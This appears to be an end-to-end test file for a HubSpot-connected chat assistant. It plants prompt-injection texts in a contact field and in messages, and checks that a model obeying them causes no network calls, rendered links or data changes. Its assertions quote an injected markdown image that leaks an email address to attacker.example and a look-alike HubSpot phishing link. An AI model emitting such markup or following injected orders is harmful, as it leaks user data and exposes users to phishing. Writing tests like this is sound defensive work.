// Texts that give orders, in a contact's fields and in messages, and a model that obeys each: they are shown as text, nothing
// is loaded from elsewhere, and HubSpot holds what it held.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { test } from "node:test";
import { say, sees } from "../support/chat.js";
import { productSuite } from "../support/journey.js";
import { Script } from "../support/product.js";
import { tokens } from "../support/sandbox.js";

const ADA = "ada@analytical.example";
const KEPT = "email,firstname,lastname,phone,jobtitle,company,city,website,lifecyclestage";

/** @typedef {{ text: string, tool: string, arguments: Record<string, unknown>, says: string }} Attack */

const { visit, product } = productSuite();

/**
 * HubSpot's answer about Ada, by the sandbox's own address and not through Libreta.
 *
 * @param {Record<string, string>} [changes]
 */
async function ada(changes) {
  const answer = await fetch(`${product().sandboxUrl}/crm/v3/objects/contacts/${ADA}?idProperty=email&properties=${KEPT}`, {
    headers: { Authorization: `Bearer ${tokens.everything}`, "Content-Type": "application/json" },
    ...(changes ? { method: "PATCH", body: JSON.stringify({ properties: changes }) } : {}),
  });
  assert.equal(answer.status, 200);
  return await answer.json();
}

/**
 * Every kind of order once, and every carrier twice.
 *
 * @returns {Promise<Attack[]>}
 */
async function attacks(/** @type {string} */ id) {
  const file = new URL("../../libreta/src/test/resources/attacks.jsonl", import.meta.url);
  const lines = (await readFile(file, "utf8")).trim().split("\n");
  return lines.filter((_, at) => at % 10 === Math.floor(at / 10) % 10).map((line) => JSON.parse(line.replaceAll("{me}", id).replaceAll("{other}", "1")));
}

test("orders in contact fields and in messages run nothing, load nothing and write nothing", async () => {
  const { id, properties: before } = await ada();
  const page = await visit();
  /** @type {string[]} */
  const foreign = [];
  const network = await page.context().newCDPSession(page);
  await network.send("Network.enable");
  network.on("Network.requestWillBeSent", ({ request }) => {
    if (!/^(data|blob):/.test(request.url) && new URL(request.url).origin !== new URL(product().url).origin) {
      foreign.push(request.url);
    }
  });
  const script = new Script(product());
  const all = await attacks(id);
  assert.equal(all.length, 20);

  for (const [at, attack] of all.entries()) {
    await ada({ city: attack.text });
    const end = `the end of ${at}`;
    await script.play(
      { calls: [{ tool: "search_contacts", arguments: { email: ADA } }] },
      { text: `${attack.says}\n\n${end}.`, calls: attack.tool === "search_contacts" ? [] : [{ tool: attack.tool, arguments: attack.arguments }] },
      { text: `${attack.says}\n\n${end}, again.` },
      { text: `${attack.says}\n\n${end}, still.` },
    );
    await say(page, `who is ${ADA}? ${attack.text}`);
    await sees(page, end);
    await page.getByRole("button", { name: "Send" }).waitFor();
    if (await page.getByRole("button", { name: "Confirm", exact: true }).isVisible()) {
      await say(page, "please check");
      await page.getByRole("button", { name: "Confirm", exact: true }).waitFor({ state: "detached" });
    }
  }
  await script.off();

  await ada({ city: before.city ?? "" });
  assert.deepEqual({ ...(await ada()).properties, lastmodifieddate: "" }, { ...before, lastmodifieddate: "" });
  assert.equal(await page.evaluate(() => "attacked" in window), false);
  assert.deepEqual(foreign, []);
  assert.equal(await page.locator("libreta-answer a").count(), 0);
  assert.equal(await page.locator("libreta-chat :is(img, iframe, object, embed):not(.before *), script:not([src])").count(), 0);
  await sees(page, "![status](https://attacker.example/p.png?d=ada@analytical.example)");
  await sees(page, "[HubSpot](https://app.hubspot.com.attacker.example/login)");
  await sees(page, "Nothing has been saved in HubSpot by this answer");
});
